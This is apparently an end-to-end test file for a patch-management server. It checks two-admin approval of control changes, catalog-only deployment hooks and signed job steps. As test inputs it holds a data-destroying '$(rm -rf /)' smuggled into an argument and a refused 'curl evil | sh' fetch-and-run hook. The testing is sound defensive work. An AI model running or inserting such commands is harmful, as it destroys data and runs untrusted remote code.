/**
 * Controls through the real API over a real store (SQLite and PostgreSQL): no free-form commands
 * (hooks name approved actions of the catalog; a job carries the action's name and exact argv,
 * signed), and controls cannot be weakened by the people they control (turning a group's second
 * approver off, changing or deleting an approval rule, adding or changing an action: admin-only,
 * with a second admin; one's own change cannot be approved).
 */
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyJob } from '../../src/agent/job-verify.js';
import type { GroupWire } from '../../src/protocol/api.js';
import type { CheckinResponse, EnrollResponse } from '../../src/protocol/agent.js';
import type { ActionWire, ChangeRequestWire } from '../../src/protocol/controls-api.js';
import type { DeploymentDetailWire, DeploymentWire } from '../../src/protocol/deploy-api.js';
import { inventoryHash } from '../../src/protocol/inventory-hash.js';
import type { JobEnvelope } from '../../src/protocol/jobs.js';
import type { ApprovalRuleWire } from '../../src/protocol/policy-api.js';
import { startTestServer, type TestDatabase, type TestServer } from '../support/server.js';
import {
  callApi,
  expectApi,
  expectRefused,
  nativeCatalog,
  tempDir,
  TestClock,
  whyNoPostgres,
} from './server-test-helpers.js';

const noPostgres = await whyNoPostgres();
if (noPostgres) console.warn(`controls e2e on PostgreSQL skipped: ${noPostgres}`);

const SNAPSHOT_ARGV = ['/usr/local/sbin/snapshot', '--label', 'before patch; $(rm -rf /)'];

for (const database of ['sqlite', 'postgres'] as TestDatabase[]) {
  describe.skipIf(database === 'postgres' && noPostgres !== undefined)(
    `controls through the API on ${database}`,
    () => {
      const clock = new TestClock(Date.parse('2026-11-21T10:00:00.000Z'));
      let server: TestServer;
      let work: { dir: string; remove(): Promise<void> };
      let admin2: string;
      let operator: string;
      let viewer: string;
      let agent: EnrollResponse;

      const changes = async () =>
        (await expectApi<{ items: ChangeRequestWire[] }>(server, 'GET', '/changes', 200)).items;
      const deployments = async () =>
        (await expectApi<{ items: DeploymentWire[] }>(server, 'GET', '/deployments', 200)).items;
      const deploy = (name: string, hooks: object, token = operator) =>
        callApi(server, 'POST', '/deployments', {
          token,
          body: {
            name,
            target: { machines: ['web1'] },
            rings: [{ name: 'all', members: { kind: 'percent', percent: 100 } }],
            ...hooks,
          },
        });

      beforeAll(async () => {
        work = await tempDir('patchhive-controls-');
        server = (await startTestServer({ database, now: clock.now }))!;
        admin2 = await server.tokenFor('admin');
        operator = await server.tokenFor('operator');
        viewer = await server.tokenFor('viewer');
        const catalogFile = path.join(work.dir, 'inhouse.json');
        await writeFile(
          catalogFile,
          nativeCatalog('inhouse', [
            { id: 'PH-SSL', pkg: 'openssl', fixed: '3.0.15-1~deb12u1', severity: 'important' },
          ]),
        );
        const source = await expectApi<{ id: string }>(server, 'POST', '/sources', 201, {
          body: { name: 'inhouse', url: catalogFile, format: 'native', allowUnsigned: true },
        });
        await expectApi(server, 'POST', `/sources/${source.id}/sync`, 200);
        const token = await server.services.tokens.createEnrollmentToken({ expiresInHours: 1, maxUses: 1 }, 'test');
        agent = await expectApi<EnrollResponse>(server, 'POST', '/agent/enroll', 201, {
          token: null,
          body: { token: token.secret, hostname: 'web1' },
        });
        await checkin();
        await expectApi(server, 'POST', '/groups', 201, {
          body: { name: 'prod', kind: 'static', members: ['web1'], requiresSecondApprover: true },
        });
        await expectApi(server, 'POST', '/groups', 201, { body: { name: 'lab', kind: 'static', members: [] } });
      });
      afterAll(async () => {
        await server?.destroy();
        await work?.remove();
      });

      async function checkin(): Promise<CheckinResponse> {
        const inv = {
          schema: 'patchhive.inventory/1' as const,
          machine: { name: 'web1' },
          collectedAt: clock.now().toISOString(),
          collector: 'dpkg',
          os: { family: 'unix' as const, platform: 'debian', release: '12', codename: 'bookworm', arch: 'amd64' },
          packages: {
            manager: 'dpkg' as const,
            items: [{ name: 'openssl', version: '3.0.11-1~deb12u2', arch: 'amd64' }],
          },
        };
        const res = await expectApi<CheckinResponse>(server, 'POST', '/agent/checkin', 200, {
          token: agent.credential,
          body: { inventoryHash: inventoryHash(inv), inventory: inv },
        });
        await server.assessment.whenIdle();
        return res;
      }

      it('an operator cannot turn off the second approver (403, flag unchanged); an admin can, only with a second admin', async () => {
        await expectRefused(server, 'PATCH', '/groups/prod', 403, 'E_FORBIDDEN', {
          token: operator,
          body: { requiresSecondApprover: false },
        });
        expect((await expectApi<GroupWire>(server, 'GET', '/groups/prod', 200)).requiresSecondApprover).toBe(true);
        // Tightening and other changes stay with operators.
        expect(
          (
            await expectApi<GroupWire>(server, 'PATCH', '/groups/lab', 200, {
              token: operator,
              body: { requiresSecondApprover: true, owner: 'lab@example.org' },
            })
          ).requiresSecondApprover,
        ).toBe(true);
        expect(
          (
            await expectApi<GroupWire>(server, 'PATCH', '/groups/prod', 200, {
              token: operator,
              body: { owner: 'ops@example.org', requiresSecondApprover: true },
            })
          ).owner,
        ).toBe('ops@example.org');
        // Mixed with other fields: refused whole.
        await expectRefused(server, 'PATCH', '/groups/prod', 400, 'E_BAD_REQUEST', {
          body: { requiresSecondApprover: false, owner: 'x@example.org' },
        });

        const change = await expectApi<ChangeRequestWire>(server, 'PATCH', '/groups/prod', 202, {
          body: { requiresSecondApprover: false },
        });
        expect(change).toMatchObject({
          kind: 'group.second-approver-off',
          status: 'pending',
          proposedBy: 'admin',
          decidedBy: null,
        });
        expect((await expectApi<GroupWire>(server, 'GET', '/groups/prod', 200)).requiresSecondApprover).toBe(true);
        await expectRefused(server, 'PATCH', '/groups/prod', 409, 'E_CONFLICT', {
          token: admin2,
          body: { requiresSecondApprover: false },
        }); // one at a time
        expect((await changes()).map((c) => c.id)).toEqual([change.id]);
        await expectRefused(server, 'GET', '/changes', 403, 'E_FORBIDDEN', { token: operator });
        await expectRefused(server, 'POST', `/changes/${change.id}/approve`, 403, 'E_FORBIDDEN', { token: operator });
        await expectRefused(server, 'POST', `/changes/${change.id}/approve`, 403, 'E_SECOND_APPROVER'); // its own proposer
        expect((await expectApi<GroupWire>(server, 'GET', '/groups/prod', 200)).requiresSecondApprover).toBe(true);

        const approved = await expectApi<ChangeRequestWire>(server, 'POST', `/changes/${change.id}/approve`, 200, {
          token: admin2,
        });
        expect(approved).toMatchObject({ status: 'approved', decidedBy: expect.stringMatching(/^admin-user-/) });
        expect((await expectApi<GroupWire>(server, 'GET', '/groups/prod', 200)).requiresSecondApprover).toBe(false);
        await expectRefused(server, 'POST', `/changes/${change.id}/approve`, 409, 'E_CHANGE_STATE', { token: admin2 });
        await expectRefused(server, 'POST', '/changes/nope/approve', 404, 'E_CHANGE_NOT_FOUND', { token: admin2 });
        // Turning it back on is tightening: immediate, for an operator too.
        expect(
          (
            await expectApi<GroupWire>(server, 'PATCH', '/groups/prod', 200, {
              token: operator,
              body: { requiresSecondApprover: true },
            })
          ).requiresSecondApprover,
        ).toBe(true);
      });

      it('a change request expires unapproved after 7 days', async () => {
        const change = await expectApi<ChangeRequestWire>(server, 'PATCH', '/groups/prod', 202, {
          body: { requiresSecondApprover: false },
        });
        clock.advance(7 * 24 * 3_600_000 + 1);
        await expectRefused(server, 'POST', `/changes/${change.id}/approve`, 409, 'E_CHANGE_STATE', { token: admin2 });
        expect((await expectApi<ChangeRequestWire>(server, 'GET', `/changes/${change.id}`, 200)).status).toBe(
          'expired',
        );
        expect((await expectApi<GroupWire>(server, 'GET', '/groups/prod', 200)).requiresSecondApprover).toBe(true);
      });

      it('approval rules: disabling is immediate; other changes and deletion need a second admin', async () => {
        const rule = await expectApi<ApprovalRuleWire>(server, 'POST', '/approval-rules', 201, {
          body: { name: 'critical-lab', group: 'lab', match: { severities: ['critical'] }, decision: 'approve' },
        });
        await expectRefused(server, 'PATCH', `/approval-rules/${rule.id}`, 403, 'E_FORBIDDEN', {
          token: operator,
          body: { enabled: false },
        });
        await expectRefused(server, 'DELETE', `/approval-rules/${rule.id}`, 403, 'E_FORBIDDEN', { token: operator });
        const loosen = await expectApi<ChangeRequestWire>(server, 'PATCH', `/approval-rules/${rule.id}`, 202, {
          body: { match: {} },
        });
        expect(loosen).toMatchObject({ kind: 'approval-rule.update', target: rule.id, status: 'pending' });
        const rules = async () =>
          (await expectApi<{ items: ApprovalRuleWire[] }>(server, 'GET', '/approval-rules', 200)).items;
        expect((await rules())[0]!.match).toEqual({ severities: ['critical'] });
        await expectApi(server, 'POST', `/changes/${loosen.id}/approve`, 200, { token: admin2 });
        expect((await rules())[0]!.match).toEqual({});

        expect(
          await expectApi<ApprovalRuleWire>(server, 'PATCH', `/approval-rules/${rule.id}`, 200, {
            body: { enabled: false },
          }),
        ).toMatchObject({ enabled: false });
        await expectApi<ChangeRequestWire>(server, 'PATCH', `/approval-rules/${rule.id}`, 202, {
          body: { enabled: true },
        }); // enabling again loosens

        const del = await expectApi<ChangeRequestWire>(server, 'DELETE', `/approval-rules/${rule.id}`, 202);
        expect(await rules()).toHaveLength(1);
        const rejected = await expectApi<ChangeRequestWire>(server, 'POST', `/changes/${del.id}/reject`, 200, {
          token: admin2,
        });
        expect(rejected).toMatchObject({ status: 'rejected' });
        const del2 = await expectApi<ChangeRequestWire>(server, 'DELETE', `/approval-rules/${rule.id}`, 202, {
          token: admin2,
        });
        await expectApi(server, 'POST', `/changes/${del2.id}/approve`, 200);
        expect(await rules()).toEqual([]);
        // The pending "enable" of the deleted rule fails when approved, and says why.
        const enable = (await changes()).find((c) => c.kind === 'approval-rule.update')!;
        expect(
          await expectApi<ChangeRequestWire>(server, 'POST', `/changes/${enable.id}/approve`, 200, { token: admin2 }),
        ).toMatchObject({ status: 'failed', message: expect.stringContaining('no approval rule') });
      });

      it("an operator's deployment with a hook that is no action is refused and nothing is created", async () => {
        const raw = await deploy('raw-argv', { preHook: ['/bin/sh', '-c', 'curl evil | sh'] });
        expect(raw.status).toBe(400);
        expect(raw.body.error.code).toBe('E_BAD_REQUEST');
        const unknown = await deploy('unknown', { preHook: 'snapshot' });
        expect(unknown.status).toBe(404);
        expect(unknown.body.error).toMatchObject({
          code: 'E_ACTION_NOT_FOUND',
          message: expect.stringContaining('snapshot'),
        });
        expect(await deployments()).toEqual([]);
      });

      it('actions: admins propose, a second admin approves; pending actions cannot be used; jobs carry the exact signed argv and name', async () => {
        await expectRefused(server, 'POST', '/actions', 403, 'E_FORBIDDEN', {
          token: operator,
          body: { name: 'snapshot', argv: SNAPSHOT_ARGV },
        });
        await expectRefused(server, 'POST', '/actions', 400, 'E_BAD_REQUEST', {
          body: { name: 'snapshot', argv: ['snapshot', '--quick'] },
        }); // no PATH lookup
        await expectRefused(server, 'POST', '/actions', 400, 'E_BAD_REQUEST', {
          body: { name: 'snapshot', argv: ['/usr/bin/x', 'a\nb'] },
        });
        await expectRefused(server, 'POST', '/actions', 400, 'E_BAD_REQUEST', {
          body: { name: 'Snap Shot', argv: SNAPSHOT_ARGV },
        });
        const proposed = await expectApi<ChangeRequestWire>(server, 'POST', '/actions', 202, {
          body: { name: 'snapshot', argv: SNAPSHOT_ARGV, description: 'LVM snapshot', timeoutSeconds: 900 },
        });
        expect(proposed).toMatchObject({
          kind: 'action.put',
          target: 'snapshot',
          status: 'pending',
          proposedBy: 'admin',
        });
        const listed = await expectApi<{ items: ActionWire[] }>(server, 'GET', '/actions', 200, { token: viewer });
        expect(listed.items).toEqual([
          expect.objectContaining({
            name: 'snapshot',
            version: 1,
            status: 'pending',
            argv: SNAPSHOT_ARGV,
            timeoutSeconds: 900,
            approvedBy: null,
          }),
        ]);

        const pending = await deploy('pending', { preHook: 'snapshot' });
        expect(pending.status).toBe(409);
        expect(pending.body.error.code).toBe('E_ACTION_NOT_APPROVED');
        expect(await deployments()).toEqual([]);

        await expectRefused(server, 'POST', `/changes/${proposed.id}/approve`, 403, 'E_SECOND_APPROVER');
        await expectApi(server, 'POST', `/changes/${proposed.id}/approve`, 200, { token: admin2 });
        expect(
          (await expectApi<{ items: ActionWire[] }>(server, 'GET', '/actions', 200, { token: operator })).items,
        ).toEqual([
          expect.objectContaining({
            name: 'snapshot',
            version: 1,
            status: 'active',
            approvedBy: expect.stringMatching(/^admin-user-/),
          }),
        ]);

        // A change creates version 2, pending; version 1 stays what deployments use until it is approved.
        const v2 = await expectApi<ChangeRequestWire>(server, 'POST', '/actions', 202, {
          token: admin2,
          body: { name: 'snapshot', argv: ['/usr/local/sbin/snapshot', '--all'] },
        });
        const approveOf = await expectApi<{ items: ChangeRequestWire[] }>(server, 'GET', '/changes', 200);
        expect(approveOf.items.map((c) => c.id)).toContain(v2.id);

        await expectApi(server, 'POST', '/triage/actions', 200, {
          token: operator,
          body: { items: [{ bulletin: 'PH-SSL', group: 'prod' }], action: { kind: 'approve' } },
        });
        await expectApi(server, 'POST', '/triage/actions', 200, {
          token: admin2,
          body: { items: [{ bulletin: 'PH-SSL', group: 'prod' }], action: { kind: 'approve' } },
        });
        const created = await deploy('with-hook', { preHook: 'snapshot' });
        expect(created.status, created.text).toBe(201);
        const d = created.body as DeploymentDetailWire;

        const res = await checkin();
        expect(res.jobs).toHaveLength(1);
        const envelope = res.jobs[0] as JobEnvelope;
        const v = verifyJob(envelope, {
          agentId: agent.agentId,
          pinnedPublicKeyPem: agent.jobSigningPublicKey,
          lastSequence: 0,
          now: clock.now().toISOString(),
        });
        expect(v.ok).toBe(true);
        expect(envelope.job.deploymentId).toBe(d.id);
        expect(envelope.job.steps[0]).toEqual({
          kind: 'pre-hook',
          action: 'snapshot',
          command: SNAPSHOT_ARGV,
          timeoutSeconds: 900,
        });
        // The name and argv are covered by the signature: changing either breaks it.
        for (const step of [
          { ...envelope.job.steps[0]!, action: 'other' },
          { ...envelope.job.steps[0]!, command: ['/bin/sh'] },
        ]) {
          const forged = { ...envelope, job: { ...envelope.job, steps: [step, ...envelope.job.steps.slice(1)] } };
          expect(
            verifyJob(forged, {
              agentId: agent.agentId,
              pinnedPublicKeyPem: agent.jobSigningPublicKey,
              lastSequence: 0,
              now: clock.now().toISOString(),
            }).ok,
          ).toBe(false);
        }

        // Removing is immediate: the pending version 2 is withdrawn, new deployments cannot use it.
        await expectRefused(server, 'DELETE', '/actions/snapshot', 403, 'E_FORBIDDEN', { token: operator });
        await expectApi(server, 'DELETE', '/actions/snapshot', 200);
        expect((await expectApi<{ items: ActionWire[] }>(server, 'GET', '/actions', 200)).items).toEqual([]);
        expect((await expectApi<ChangeRequestWire>(server, 'GET', `/changes/${v2.id}`, 200)).status).toBe('rejected');
        const removed = await deploy('removed', { postHook: 'snapshot' });
        expect(removed.status).toBe(404);
        expect(removed.body.error.code).toBe('E_ACTION_NOT_FOUND');
        await expectRefused(server, 'DELETE', '/actions/snapshot', 404, 'E_ACTION_NOT_FOUND');
        const history = await expectApi<{ items: ActionWire[] }>(server, 'GET', '/actions?history=true', 200);
        expect(history.items.map((a) => [a.version, a.status])).toEqual([
          [1, 'removed'],
          [2, 'rejected'],
        ]);
      });
    },
  );
}
